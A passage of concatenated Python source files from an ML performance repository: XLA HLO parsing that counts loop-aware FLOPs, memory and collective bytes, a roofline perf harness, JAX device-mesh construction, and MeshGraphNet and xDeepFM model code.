    r"^\s*(?:ROOT\s+)?%?[\w.\-]+\s*=\s*(\([^)]*\)|[\w\[\],{} ]+?)\s+"
    r"(all-gather|all-reduce|reduce-scatter|all-to-all|collective-permute)"
    r"(?:-start|-done)?\(",
    re.MULTILINE,
)
_GROUPS_RE = re.compile(r"replica_groups=\{\{([^}]*)\}")
_GROUPS_V2_RE = re.compile(r"replica_groups=\[(\d+),(\d+)\]")


def _shape_bytes(type_str: str) -> int:
    total = 0
    for dt, dims in _SHAPE_RE.findall(type_str):
        if dt not in _DTYPE_BYTES:
            continue
        n = 1
        if dims:
            for d in dims.split(","):
                if d:
                    n *= int(d)
        total += n * _DTYPE_BYTES[dt]
    return total


def _group_size(line: str) -> int:
    m = _GROUPS_V2_RE.search(line)
    if m:
        return int(m.group(2))  # [num_groups, group_size]
    m = _GROUPS_RE.search(line)
    if m:
        return len([x for x in m.group(1).split(",") if x.strip() != ""])
    return 2


@dataclass
class CollectiveStats:
    bytes_by_kind: dict[str, float] = field(default_factory=lambda: defaultdict(float))
    count_by_kind: dict[str, int] = field(default_factory=lambda: defaultdict(int))

    @property
    def total_bytes(self) -> float:
        return sum(self.bytes_by_kind.values())

    def to_dict(self) -> dict:
        return {
            "total_bytes": self.total_bytes,
            "bytes_by_kind": dict(self.bytes_by_kind),
            "count_by_kind": dict(self.count_by_kind),
        }


def _while_trip_counts(hlo: str) -> dict[str, int]:
    """computation name -> trip count for statically-counted while bodies."""
    # XLA annotates: while(...), ... backend_config={"known_trip_count":{"n":"42"}}
    out: dict[str, int] = {}
    for m in re.finditer(
        r"while\([^)]*\).*?body=%?([\w.\-]+).*?known_trip_count[\"':{\s]+n[\"':\s]+(\d+)",
        hlo,
    ):
        out[m.group(1)] = int(m.group(2))
    return out


def _split_computations(hlo: str) -> list[tuple[str, str]]:
    """[(computation_name, body_text)] from an HLO module dump."""
    parts: list[tuple[str, str]] = []
    cur_name, cur_lines = None, []
    for line in hlo.splitlines():
        m = re.match(r"^(?:ENTRY\s+)?%?([\w.\-]+)\s*(?:\([^)]*\))?\s*->.*\{\s*$", line)
        m2 = re.match(r"^(?:ENTRY\s+)?%?([\w.\-]+)\s+\{\s*$", line)
        if m or m2:
            if cur_name is not None:
                parts.append((cur_name, "\n".join(cur_lines)))
            cur_name = (m or m2).group(1)
            cur_lines = []
        elif cur_name is not None:
            cur_lines.append(line)
    if cur_name is not None:
        parts.append((cur_name, "\n".join(cur_lines)))
    return parts


def collective_bytes(hlo: str) -> CollectiveStats:
    """Per-device collective traffic (bytes on the wire) for one executable."""
    stats = CollectiveStats()
    trips = _while_trip_counts(hlo)
    for comp_name, body in _split_computations(hlo):
        mult = trips.get(comp_name, 1)
        for line in body.splitlines():
            m = _COLLECTIVE_RE.match(line)
            if not m:
                continue
            type_str, kind = m.group(1), m.group(2)
            size = _shape_bytes(type_str)
            n = _group_size(line)
            if n <= 1:
                continue
            factor = {
                "all-gather": (n - 1) / n,
                "all-reduce": 2 * (n - 1) / n,
                "reduce-scatter": (n - 1) / n,
                "all-to-all": (n - 1) / n,
                "collective-permute": 1.0,
            }[kind]
            stats.bytes_by_kind[kind] += size * factor * mult
            stats.count_by_kind[kind] += mult
    return stats


# --- full-module FLOP/byte counting with loop multiplication --------------------
#
# XLA's HloCostAnalysis visits every computation ONCE — a 42-layer lax.scan
# body contributes 1/42 of its true FLOPs to compiled.cost_analysis().  The
# roofline needs executed work, so we re-count from the post-optimization HLO
# text: per-computation dot FLOPs / instruction bytes, multiplied through the
# call graph (while bodies × known_trip_count).

_INST_RE = re.compile(
    r"^\s*(?:ROOT\s+)?%?([\w.\-]+)\s*=\s*((?:\([^)]*\))|(?:[\w\[\],{}\/\* ]+?))\s+([\w\-]+)\((.*)$"
)
_OPERAND_RE = re.compile(r"%([\w.\-]+)")
_CALL_EDGE_RE = re.compile(
    r"(?:calls|to_apply|body)=%?([\w.\-]+)|branch_computations=\{([^}]*)\}"
)
_TRIP_RE = re.compile(r"known_trip_count[\"':{\s]+n[\"':\s]+(\d+)")
_CONTRACT_RE = re.compile(r"lhs_contracting_dims=\{([\d,]*)\}")
_DIMS_RE = re.compile(r"^(\w+)\[([\d,]*)\]")

# ops whose operand/output buffers do not move bytes (control / aliasing)
_FREE_OPS = {
    "parameter", "constant", "tuple", "get-tuple-element", "bitcast", "while",
    "conditional", "call", "after-all", "add-dependency", "custom-call",
    "all-reduce", "all-gather", "reduce-scatter", "all-to-all",
    "collective-permute", "all-reduce-start", "all-reduce-done", "copy-start",
    "copy-done", "partition-id", "replica-id", "rng-get-and-update-state",
    "opt-barrier", "iota", "fusion",  # fusion handled specially below
}


def _parse_dims(type_str: str) -> tuple[str, list[int]] | None:
    m = _DIMS_RE.match(type_str.strip().strip("()"))
    if not m:
        return None
    dt = m.group(1)
    dims = [int(d) for d in m.group(2).split(",") if d] if m.group(2) else []
    return dt, dims


@dataclass
class _Inst:
    name: str
    out_type: str
    op: str
    rest: str  # operand list + attributes (raw tail of the line)


@dataclass
class _Computation:
    name: str
    insts: list
    symbols: dict  # var name -> out_type string


def _parse_hlo_module(hlo: str) -> tuple[dict[str, "_Computation"], str | None]:
    comps: dict[str, _Computation] = {}
    entry = None
    cur: _Computation | None = None
    for line in hlo.splitlines():
        hdr = re.match(r"^(ENTRY\s+)?%?([\w.\-]+)\s*(\(.*\))?\s*(->.*)?\{\s*$", line)
        # instruction lines contain " = "; tuple-type /*index=N*/ comments don't
        if hdr and (" = " not in line.split("{")[0]):
            cur = _Computation(hdr.group(2), [], {})
            comps[cur.name] = cur
            if hdr.group(1):
                entry = cur.name
            continue
        if cur is None:
            continue
        m = _INST_RE.match(line)
        if m:
            inst = _Inst(m.group(1), m.group(2).strip(), m.group(3), m.group(4))
            cur.insts.append(inst)
            cur.symbols[inst.name] = inst.out_type
    return comps, entry


def _call_multipliers(comps: dict, entry: str | None) -> dict[str, float]:
    """computation -> number of executions of one module run."""
    mult: dict[str, float] = {c: 0.0 for c in comps}
    if entry is None:
        entry = next(iter(comps), None)
        if entry is None:
            return mult
    mult[entry] = 1.0
    # iterate to fixpoint (call graph is a DAG; few passes suffice)
    for _ in range(32):
        changed = False
        for cname, comp in comps.items():
            base = mult.get(cname, 0.0)
            if base == 0.0:
                continue
            for inst in comp.insts:
                for m in _CALL_EDGE_RE.finditer(inst.rest):
                    targets = []
                    if m.group(1):
                        targets = [m.group(1)]
                    elif m.group(2):
                        targets = [t.strip().lstrip("%") for t in m.group(2).split(",")]
                    trip = 1.0
                    if inst.op == "while" and "body=" in m.group(0):
                        tm = _TRIP_RE.search(inst.rest)
                        trip = float(tm.group(1)) if tm else 1.0
                    for t in targets:
                        if t in mult:
                            new = base * trip
                            if new > mult[t]:
                                mult[t] = new
                                changed = True
        if not changed:
            break
    return mult


def _dot_flops(inst: _Inst, symbols: dict) -> float:
    out = _parse_dims(inst.out_type)
    if out is None:
        return 0.0
    _, out_dims = out
    ops = _OPERAND_RE.findall(inst.rest)
    if not ops:
        return 0.0
    lhs_type = symbols.get(ops[0])
    if lhs_type is None:
        return 0.0
    lhs = _parse_dims(lhs_type)
    if lhs is None:
        return 0.0
    _, lhs_dims = lhs
    cm = _CONTRACT_RE.search(inst.rest)
    contract = 1
    if cm and cm.group(1):
        for d in cm.group(1).split(","):
            if d and int(d) < len(lhs_dims):
                contract *= lhs_dims[int(d)]
    n_out = 1
    for d in out_dims:
        n_out *= d
    return 2.0 * n_out * contract


_OPNAME_RE = re.compile(r'op_name="([^"]+)"')

# jax.named_scope markers declaring "this region is one fused Trainium
# kernel": intermediates stay in SBUF/PSUM, so only region-boundary buffers
# count as HBM traffic (reads of operands produced outside the region;
# region-internal outputs are free).
FUSED_SCOPE_MARKERS = ("fused_attn", "fused_norm", "fused_rope", "fused_a2a", "fused_kernel")

# non-compute ops that XLA rewrites sometimes emit WITHOUT source metadata
# (two-stage reductions etc.); they join a fused region when all their
# operands are region-internal ("contagion") — dots/collectives never do.
_CONTAGION_BLOCKLIST = {"dot", "convolution", "while", "conditional", "call"}


def _is_tagged(inst: _Inst) -> bool:
    m = _OPNAME_RE.search(inst.rest)
    if not m:
        return False
    name = m.group(1)
    return any(marker in name for marker in FUSED_SCOPE_MARKERS)


def _tagged_map(comp: "_Computation") -> dict:
    tagged = {inst.name: _is_tagged(inst) for inst in comp.insts}
    by_name = {inst.name: inst for inst in comp.insts}
    # contagion passes: metadata-stripped elementwise/reduce ops fed entirely
    # by tagged producers belong to the region (constants/iota don't block)
    _PASS_THROUGH = {"get-tuple-element", "bitcast", "tuple", "copy", "reshape", "transpose"}
    for _ in range(4):
        changed = False
        for inst in comp.insts:
            if tagged[inst.name]:
                continue
            if inst.op in _CONTAGION_BLOCKLIST or (
                inst.op in _FREE_OPS and inst.op not in _PASS_THROUGH
            ):
                continue
            ops = _operands(inst)
            known = [
                o
                for o in ops
                if o in tagged
                and (by_name.get(o) is None or by_name[o].op not in ("constant", "iota"))
            ]
            if known and all(tagged[o] for o in known):
                tagged[inst.name] = True
                changed = True
        if not changed:
            break
    return tagged


def _operands(inst: _Inst) -> list[str]:
    paren_close = inst.rest.find(")")
    operand_str = inst.rest[: paren_close if paren_close >= 0 else len(inst.rest)]
    return _OPERAND_RE.findall(operand_str)


# XLA CPU legalizes bf16 dots by upconverting operands to f32 (named
# convert_bitcast_fusion / wrapped_convert); the Trainium tensor engine
# consumes bf16 natively, so these converts do not exist in the TRN lowering
# and are excluded from the memory term (dot operand reads still count, at
# the legalized f32 width — a conservative 2× on weight reads).
_LEGALIZATION_NAME_RE = re.compile(r"(?:^|\.)?(?:wrapped_)?convert(?:_bitcast)?(?:_fusion)?[\w.]*$")


def _is_legalization_convert(inst: "_Inst") -> bool:
    return (
        ("convert" in inst.name)
        and inst.op in ("fusion", "convert")
        and _OPNAME_RE.search(inst.rest) is None
    )


def _stack_slice_bytes(symbols: dict, by_name: dict, o: str, trip: int) -> float:
    """Operand bytes, with the scan-xs adjustment: a while-body operand whose
    LEADING DIM equals the loop trip count is the stacked xs — the iteration
    reads one slice, not the whole stack (XLA fuses the dynamic-slice into
    the consumer, so the raw operand type lies by a factor of `trip`)."""
    ty = symbols.get(o, "")
    b = _shape_bytes(ty)
    if trip > 1:
        p = by_name.get(o)
        if p is not None and p.op == "get-tuple-element":
            dims = _parse_dims(ty)
            if dims and dims[1] and dims[1][0] == trip:
                return b / trip
    return b


def _inst_bytes(inst: _Inst, symbols: dict, tagged: dict, by_name: dict | None = None, trip: int = 1) -> float:
    if inst.op in _FREE_OPS and inst.op != "fusion":
        return 0.0
    if _is_legalization_convert(inst):
        return 0.0
    out_b = _shape_bytes(inst.out_type)
    op_names = _operands(inst)
    if tagged.get(inst.name, False):
        return 0.0  # fused region: boundary reads charged once, in caller
    by_name = by_name or {}
    in_b = sum(_stack_slice_bytes(symbols, by_name, o, trip) for o in op_names)
    if inst.op == "dynamic-update-slice" and len(op_names) >= 2:
        upd = _shape_bytes(symbols.get(op_names[1], ""))
        return 2.0 * upd  # in-place: read update, write region
    if inst.op == "gather":
        idx = _shape_bytes(symbols.get(op_names[1], "")) if len(op_names) > 1 else 0
        return 2.0 * out_b + idx  # rows read + output written (+ indices)
    if inst.op in ("scatter", "select-and-scatter"):
        upd = _shape_bytes(symbols.get(op_names[-1], "")) if op_names else 0
        return 3.0 * upd  # read-modify-write of touched rows + updates
    return out_b + in_b


def executed_flops_bytes(hlo: str) -> dict:
    """Loop-aware executed FLOPs (dot ops) and memory bytes, per device."""
    comps, entry = _parse_hlo_module(hlo)
    mult = _call_multipliers(comps, entry)
    trips = _while_trip_counts(hlo)
    # computations called from fusion/reduce/etc. instructions are kernel
    # internals — their buffers are never materialized in HBM
    fused: set[str] = set()
    for comp in comps.values():
        for inst in comp.insts:
            if inst.op in ("fusion", "reduce", "reduce-window", "scatter", "select-and-scatter", "sort", "map"):
                for mm in _CALL_EDGE_RE.finditer(inst.rest):
                    if mm.group(1):
                        fused.add(mm.group(1))
    flops = 0.0
    membytes = 0.0
    dus_bytes = gather_bytes = fused_saved = 0.0
    for cname, comp in comps.items():
        m = mult.get(cname, 0.0)
        if m == 0.0:
            continue
        for inst in comp.insts:
            if inst.op in ("dot", "convolution"):
                flops += m * _dot_flops(inst, comp.symbols)
        if cname in fused:
            continue  # fusion internals are not materialized
        tagged = _tagged_map(comp)
        by_name = {inst.name: inst for inst in comp.insts}
        trip = int(trips.get(cname, 1))
        for inst in comp.insts:
            b = _inst_bytes(inst, comp.symbols, tagged, by_name, trip)
            membytes += m * b
            if inst.op == "dynamic-update-slice":
                dus_bytes += m * b
            elif inst.op == "gather":
                gather_bytes += m * b
        # fused-region boundary reads: each distinct externally-produced
        # buffer is loaded into the kernel ONCE (not once per consuming op)
        boundary: set[str] = set()
        for inst in comp.insts:
            if not tagged.get(inst.name, False):
                continue
            for o in _operands(inst):
                if not tagged.get(o, False):
                    boundary.add(o)
        membytes += m * sum(
            _stack_slice_bytes(comp.symbols, by_name, o, trip) for o in boundary
        )
    return {
        "executed_flops": flops,
        "executed_bytes": membytes,
        "dus_bytes": dus_bytes,
        "gather_bytes": gather_bytes,
    }


def flops_and_bytes(compiled) -> dict:
    """cost_analysis with defensive key handling across jax versions."""
    try:
        ca = compiled.cost_analysis()
    except Exception:
        return {}
    if isinstance(ca, list):
        ca = ca[0] if ca else {}
    return {
        "flops": float(ca.get("flops", 0.0)),
        "bytes_accessed": float(ca.get("bytes accessed", ca.get("bytes_accessed", 0.0))),
        "transcendentals": float(ca.get("transcendentals", 0.0)),
        "optimal_seconds": float(ca.get("optimal_seconds", 0.0)),
    }


def memory_analysis_dict(compiled) -> dict:
    try:
        ma = compiled.memory_analysis()
    except Exception:
        return {}
    if ma is None:
        return {}
    keys = [
        "argument_size_in_bytes",
        "output_size_in_bytes",
        "temp_size_in_bytes",
        "generated_code_size_in_bytes",
        "alias_size_in_bytes",
        "host_argument_size_in_bytes",
        "host_output_size_in_bytes",
        "host_temp_size_in_bytes",
    ]
    return {k: int(getattr(ma, k)) for k in keys if hasattr(ma, k)}
