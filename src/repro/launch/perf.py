import os

os.environ["XLA_FLAGS"] = (
    os.environ.get("XLA_FLAGS", "") + " --xla_force_host_platform_device_count=512"
).strip()

"""Perf-iteration harness: one cell → roofline terms + top contributors.

    PYTHONPATH=src python -m repro.launch.perf --arch A --shape S [--mesh pod]
        [--top 12] [--tag note]

Prints the three roofline terms and the largest byte/FLOP contributors from
the loop-aware HLO analysis — the measurement step of every
hypothesis → change → measure cycle in EXPERIMENTS.md §Perf.
"""

import argparse
import json
import re
import time
from collections import defaultdict
from pathlib import Path


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--arch", required=True)
    ap.add_argument("--shape", required=True)
    ap.add_argument("--mesh", default="pod", choices=["pod", "multipod"])
    ap.add_argument("--top", type=int, default=12)
    ap.add_argument("--tag", default="baseline")
    ap.add_argument("--out", default="experiments/perf")
    args = ap.parse_args()

    from ..configs.base import get_arch
    from .cells import build_cell
    from .hlo_analysis import (
        _call_multipliers,
        _dot_flops,
        _inst_bytes,
        _parse_hlo_module,
        _tagged_map,
        _CALL_EDGE_RE,
        _operands,
        _shape_bytes,
        collective_bytes,
        executed_flops_bytes,
        memory_analysis_dict,
    )
    from .mesh import MESH_SPECS, make_production_mesh, mesh_chips
    from .roofline import HBM_BW, LINK_BW, LINKS_PER_CHIP, PEAK_FLOPS

    arch = get_arch(args.arch)
    cell = arch.shape(args.shape)
    mesh = make_production_mesh(**MESH_SPECS[args.mesh])
    t0 = time.time()
    with mesh:
        built = build_cell(arch, cell, mesh)
        compiled = built.lower().compile()
    hlo = compiled.as_text()
    ex = executed_flops_bytes(hlo)
    cb = collective_bytes(hlo)
    ma = memory_analysis_dict(compiled)
    chips = mesh_chips(mesh)

    compute_s = ex["executed_flops"] / PEAK_FLOPS
    memory_s = ex["executed_bytes"] / HBM_BW
    coll_s = cb.total_bytes / (LINK_BW * LINKS_PER_CHIP)
    print(f"\n=== {args.arch} × {args.shape} [{args.mesh}] ({args.tag}) ===")
    print(f"compile {time.time()-t0:.1f}s | chips {chips}")
    print(f"compute    {compute_s:10.4f} s  ({ex['executed_flops']:.3e} FLOP/dev)")
    print(f"memory     {memory_s:10.4f} s  ({ex['executed_bytes']/2**30:.1f} GiB/dev)")
    print(f"collective {coll_s:10.4f} s  ({cb.total_bytes/2**30:.2f} GiB/dev: "
          + ", ".join(f"{k}={v/2**30:.2f}G" for k, v in cb.bytes_by_kind.items()) + ")")
    print(f"temp/dev   {ma.get('temp_size_in_bytes', 0)/2**30:10.1f} GiB")
    print(f"useful     {built.model_flops / max(ex['executed_flops']*chips, 1):10.2f} "
          f"(MODEL {built.model_flops:.3e} / executed-global {ex['executed_flops']*chips:.3e})")

    # --- contributors -----------------------------------------------------
    comps, entry = _parse_hlo_module(hlo)
    mult = _call_multipliers(comps, entry)
    fused: set[str] = set()
    for comp in comps.values():
        for inst in comp.insts:
            if inst.op in ("fusion", "reduce", "reduce-window", "scatter", "sort", "map"):
                for mm in _CALL_EDGE_RE.finditer(inst.rest):
                    if mm.group(1):
                        fused.add(mm.group(1))
    fagg, bagg = defaultdict(float), defaultdict(float)
    for cname, comp in comps.items():
        m = mult.get(cname, 0.0)
        if m == 0:
            continue
        for inst in comp.insts:
            if inst.op in ("dot", "convolution"):
                mm = re.search(r'op_name="([^"]*)"', inst.rest)
                key = "/".join((mm.group(1) if mm else "?").split("/")[-2:])[-48:]
                fagg[(key, inst.out_type[:28])] += m * _dot_flops(inst, comp.symbols)
        if cname in fused:
            continue
        tagged = _tagged_map(comp)
        for inst in comp.insts:
            b = _inst_bytes(inst, comp.symbols, tagged)
            if b > 0:
                mm = re.search(r'op_name="([^"]*)"', inst.rest)
                key = "/".join((mm.group(1) if mm else "?").split("/")[-3:])[-48:]
                bagg[(inst.op, key, inst.out_type[:28])] += m * b
        boundary = set()
        for inst in comp.insts:
            if tagged.get(inst.name, False):
                for o in _operands(inst):
                    if not tagged.get(o, False):
                        boundary.add(o)
        for o in boundary:
            bagg[("boundary-read", cname[-32:], comp.symbols.get(o, "?")[:28])] += m * _shape_bytes(
                comp.symbols.get(o, "")
            )

    print(f"\ntop {args.top} FLOP contributors (per-dev):")
    for (key, ty), v in sorted(fagg.items(), key=lambda kv: -kv[1])[: args.top]:
        print(f"  {v:10.3e}  {key:50s} {ty}")
    print(f"\ntop {args.top} byte contributors (per-dev):")
    for (op, key, ty), v in sorted(bagg.items(), key=lambda kv: -kv[1])[: args.top]:
        print(f"  {v/2**30:8.1f}G  {op:14s} {key:48s} {ty}")

    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    rec = {
        "arch": args.arch, "shape": args.shape, "mesh": args.mesh, "tag": args.tag,
        "compute_s": compute_s, "memory_s": memory_s, "collective_s": coll_s,
        "temp_gib": ma.get("temp_size_in_bytes", 0) / 2**30,
        "executed": ex, "collectives": cb.to_dict(), "model_flops": built.model_flops,
    }
    (out / f"{args.arch}__{args.shape}__{args.tag}.json").write_text(json.dumps(rec, indent=1))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
