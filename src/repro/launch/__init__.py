"""Launch layer: mesh construction, dry-run, roofline, train/serve drivers."""
