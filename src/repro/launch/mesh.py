"""Production mesh construction.

Single pod: 128 chips as (data=8, tensor=4, pipe=4).
Multi-pod:  2 pods = 256 chips as (pod=2, data=8, tensor=4, pipe=4).

A FUNCTION, not a module constant — importing this module never touches jax
device state (device count is locked at first use; the dry-run must set
``xla_force_host_platform_device_count`` before that).
"""

from __future__ import annotations

import jax

try:  # AxisType landed after jax 0.4.37; older jax means implicit Auto axes
    from jax.sharding import AxisType
except ImportError:  # pragma: no cover - depends on installed jax
    AxisType = None


def compat_make_mesh(shape, axes):
    """``jax.make_mesh`` across jax versions (axis_types grew post-0.4.37)."""
    if AxisType is None:
        return jax.make_mesh(shape, axes)
    return jax.make_mesh(shape, axes, axis_types=(AxisType.Auto,) * len(axes))


def compat_abstract_mesh(shape, axes):
    """``jax.sharding.AbstractMesh`` across both constructor generations."""
    if AxisType is not None:
        return jax.sharding.AbstractMesh(
            tuple(shape), tuple(axes), axis_types=(AxisType.Auto,) * len(axes)
        )
    return jax.sharding.AbstractMesh(tuple(zip(axes, shape)))


def make_production_mesh(*, multi_pod: bool = False):
    shape = (2, 8, 4, 4) if multi_pod else (8, 4, 4)
    axes = ("pod", "data", "tensor", "pipe") if multi_pod else ("data", "tensor", "pipe")
    return compat_make_mesh(shape, axes)


def make_smoke_mesh():
    """1-device mesh with the production axis names (smoke tests / CI)."""
    return compat_make_mesh((1, 1, 1), ("data", "tensor", "pipe"))


def mesh_chips(mesh) -> int:
    return int(mesh.devices.size)


MESH_SPECS = {
    "pod": dict(multi_pod=False),  # 8×4×4 = 128 chips
    "multipod": dict(multi_pod=True),  # 2×8×4×4 = 256 chips
}
