"""Production mesh construction.

Single pod: 128 chips as (data=8, tensor=4, pipe=4).
Multi-pod:  2 pods = 256 chips as (pod=2, data=8, tensor=4, pipe=4).

A FUNCTION, not a module constant — importing this module never touches jax
device state (device count is locked at first use; the dry-run must set
``xla_force_host_platform_device_count`` before that).
"""

from __future__ import annotations

import jax
from jax.sharding import AxisType


def make_production_mesh(*, multi_pod: bool = False):
    shape = (2, 8, 4, 4) if multi_pod else (8, 4, 4)
    axes = ("pod", "data", "tensor", "pipe") if multi_pod else ("data", "tensor", "pipe")
    return jax.make_mesh(shape, axes, axis_types=(AxisType.Auto,) * len(axes))


def make_smoke_mesh():
    """1-device mesh with the production axis names (smoke tests / CI)."""
    return jax.make_mesh((1, 1, 1), ("data", "tensor", "pipe"), axis_types=(AxisType.Auto,) * 3)


def mesh_chips(mesh) -> int:
    return int(mesh.devices.size)


MESH_SPECS = {
    "pod": dict(multi_pod=False),  # 8×4×4 = 128 chips
    "multipod": dict(multi_pod=True),  # 2×8×4×4 = 256 chips
}
