"""MeshGraphNet (Pfaff et al. 2021): encode → 15 message-passing blocks → decode.

Message passing is implemented with ``jax.ops.segment_sum`` over an edge-index
scatter (JAX has no SpMM beyond BCOO; the segment form IS the system's GNN
kernel).  Edge update: MLP([e, x_src, x_dst]); node update: MLP([x, Σ_in e']).
Both with residuals and LayerNorm, per the paper.

Shape cells: full_graph_sm (2 708 n / 10 556 e), minibatch_lg (sampled
1024-seed fanout 15-10 subgraphs of a 233k-node graph), ogb_products
(2.45M n / 61.9M e), molecule (128 × 30-node graphs batched as one disjoint
union graph).
"""

from __future__ import annotations

from dataclasses import dataclass

import jax
import jax.numpy as jnp

from .layers import layer_norm_nonparametric
from .params import ParamSpec
from .sharding import ShardingRules, logical_constraint

P = ParamSpec


@dataclass(frozen=True)
class MeshGraphNetConfig:
    name: str = "meshgraphnet"
    n_layers: int = 15
    d_hidden: int = 128
    mlp_layers: int = 2  # hidden layers inside each MLP
    aggregator: str = "sum"
    d_node_in: int = 1433  # overridden per shape cell
    d_edge_in: int = 4
    d_out: int = 2


def _mlp_spec(L: int, d_in: int, d_h: int, d_out: int, n_hidden: int):
    """Stacked-per-layer MLP weights: leading ``layers`` dim for lax.scan."""
    dims = [d_in] + [d_h] * n_hidden + [d_out]
    return {
        "w": [
            P((L, dims[i], dims[i + 1]), ("layers", None, "gnn_hidden"))
            for i in range(len(dims) - 1)
        ],
        "b": [
            P((L, dims[i + 1]), ("layers", "gnn_hidden"), init="zeros")
            for i in range(len(dims) - 1)
        ],
    }


def _single_mlp_spec(d_in: int, d_h: int, d_out: int, n_hidden: int):
    dims = [d_in] + [d_h] * n_hidden + [d_out]
    return {
        "w": [P((dims[i], dims[i + 1]), (None, "gnn_hidden")) for i in range(len(dims) - 1)],
        "b": [P((dims[i + 1],), ("gnn_hidden",), init="zeros") for i in range(len(dims) - 1)],
    }


def meshgraphnet_param_specs(cfg: MeshGraphNetConfig):
    L, H = cfg.n_layers, cfg.d_hidden
    return {
        "node_encoder": _single_mlp_spec(cfg.d_node_in, H, H, cfg.mlp_layers),
        "edge_encoder": _single_mlp_spec(cfg.d_edge_in, H, H, cfg.mlp_layers),
        "edge_mlp": _mlp_spec(L, 3 * H, H, H, cfg.mlp_layers),
        "node_mlp": _mlp_spec(L, 2 * H, H, H, cfg.mlp_layers),
        "decoder": _single_mlp_spec(H, H, cfg.d_out, cfg.mlp_layers),
    }


def _apply_mlp(p, x, *, norm: bool = True):
    n = len(p["w"])
    for i, (w, b) in enumerate(zip(p["w"], p["b"])):
        x = jnp.einsum("...d,df->...f", x, w) + b
        if i < n - 1:
            x = jax.nn.relu(x)
    return layer_norm_nonparametric(x) if norm else x


def meshgraphnet_forward(params, batch, cfg: MeshGraphNetConfig, rules: ShardingRules | None = None):
    """batch: node_feat [N, Fn], edge_feat [E, Fe], senders [E], receivers [E].

    Returns per-node outputs [N, d_out].
    """
    rules = rules or ShardingRules()
    x = _apply_mlp(params["node_encoder"], batch["node_feat"])
    e = _apply_mlp(params["edge_encoder"], batch["edge_feat"])
    x = logical_constraint(x, rules, "nodes", None)
    e = logical_constraint(e, rules, "edges", None)
    senders, receivers = batch["senders"], batch["receivers"]
    n_nodes = x.shape[0]

    def body(carry, lp):
        x, e = carry
        # edge update: e' = e + MLP([e, x_src, x_dst])
        gathered = jnp.concatenate(
            [e, jnp.take(x, senders, axis=0), jnp.take(x, receivers, axis=0)], axis=-1
        )
        e = e + _apply_mlp(lp_edge(lp), gathered)
        e = logical_constraint(e, rules, "edges", None)
        # node update: x' = x + MLP([x, Σ_{incoming} e'])
        if cfg.aggregator == "max":
            agg = jax.ops.segment_max(e, receivers, num_segments=n_nodes)
            agg = jnp.where(jnp.isfinite(agg), agg, 0)
        else:
            agg = jax.ops.segment_sum(e, receivers, num_segments=n_nodes)
        x = x + _apply_mlp(lp_node(lp), jnp.concatenate([x, agg], axis=-1))
        x = logical_constraint(x, rules, "nodes", None)
        return (x, e), None

    def lp_edge(lp):
        return {"w": lp["edge_w"], "b": lp["edge_b"]}

    def lp_node(lp):
        return {"w": lp["node_w"], "b": lp["node_b"]}

    stacked = {
        "edge_w": params["edge_mlp"]["w"],
        "edge_b": params["edge_mlp"]["b"],
        "node_w": params["node_mlp"]["w"],
        "node_b": params["node_mlp"]["b"],
    }
    (x, e), _ = jax.lax.scan(body, (x, e), stacked)
    return _apply_mlp(params["decoder"], x, norm=False)


def meshgraphnet_loss(params, batch, cfg: MeshGraphNetConfig, rules=None):
    """MSE on per-node targets, masked to labeled nodes when given."""
    out = meshgraphnet_forward(params, batch, cfg, rules)
    target = batch["target"]
    err = jnp.square(out - target).sum(-1)
    if "node_mask" in batch:
        m = batch["node_mask"].astype(jnp.float32)
        return (err * m).sum() / jnp.maximum(m.sum(), 1.0)
    return err.mean()
