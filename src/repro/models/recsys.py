"""RecSys architectures: xDeepFM (CIN), SASRec, MIND, two-tower retrieval.

All four share the structure: huge row-sharded embedding tables → feature
interaction (CIN / self-attention / capsule routing / dot) → small MLP.
The lookup is the hot path (see embedding.py).

Shapes (assigned): train_batch=65536, serve_p99=512, serve_bulk=262144,
retrieval_cand = 1 query × 1,000,000 candidates.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import jax
import jax.numpy as jnp
import numpy as np

from .embedding import embedding_bag_fixed, embedding_table_spec, field_lookup
from .layers import mlp as plain_mlp, dense_attention, rms_norm
from .params import ParamSpec
from .sharding import ShardingRules, logical_constraint

P = ParamSpec


# ---------------------------------------------------------------- xDeepFM ----


@dataclass(frozen=True)
class XDeepFMConfig:
    name: str = "xdeepfm"
    n_sparse: int = 39
    embed_dim: int = 10
    cin_layers: tuple[int, ...] = (200, 200, 200)
    mlp_layers: tuple[int, ...] = (400, 400)
    # Criteo-like per-field vocab sizes: a few huge ID fields + small ones
    big_fields: int = 8
    big_vocab: int = 4_000_000
    small_vocab: int = 10_000

    def field_sizes(self) -> np.ndarray:
        sizes = [self.big_vocab] * self.big_fields + [self.small_vocab] * (
            self.n_sparse - self.big_fields
        )
        return np.asarray(sizes, np.int64)

    def total_rows(self) -> int:
        return int(self.field_sizes().sum())


def xdeepfm_param_specs(cfg: XDeepFMConfig):
    F, D = cfg.n_sparse, cfg.embed_dim
    specs: dict[str, Any] = {
        "table": embedding_table_spec(cfg.total_rows(), D),
        "cin": [],
        "mlp": {"w": [], "b": []},
    }
    h_prev = F
    for h in cfg.cin_layers:
        # CIN filter W^k: [H_k * F, H_{k+1}]
        specs["cin"].append(P((h_prev * F, h), (None, None)))
        h_prev = h
    dims = [F * D, *cfg.mlp_layers, 1]
    for i in range(len(dims) - 1):
        specs["mlp"]["w"].append(P((dims[i], dims[i + 1]), (None, "tower_mlp" if i < len(dims) - 2 else None)))
        specs["mlp"]["b"].append(P((dims[i + 1],), (None,), init="zeros"))
    specs["cin_out"] = P((sum(cfg.cin_layers), 1), (None, None))
    specs["linear"] = embedding_table_spec(cfg.total_rows(), 1)
    return specs


def xdeepfm_forward(params, batch, cfg: XDeepFMConfig, rules: ShardingRules | None = None):
    """batch = {"fields": int32 [B, F]} → logits [B]."""
    rules = rules or ShardingRules()
    idx = batch["fields"]
    offsets = jnp.asarray(np.concatenate([[0], np.cumsum(cfg.field_sizes())[:-1]]), idx.dtype)
    x0 = field_lookup(params["table"], offsets, idx, rules)  # [B, F, D]
    x0 = logical_constraint(x0, rules, "batch", None, None)

    # --- CIN (compressed interaction network) ---
    b, f, d = x0.shape
    xk = x0
    pooled = []
    for w in params["cin"]:
        # z: [B, H_k, F, D] outer interactions along the embedding dim
        z = jnp.einsum("bhd,bfd->bhfd", xk, x0)
        z = z.reshape(b, -1, d)  # [B, H_k*F, D]
        xk = jnp.einsum("bzd,zh->bhd", z, w)  # [B, H_{k+1}, D]
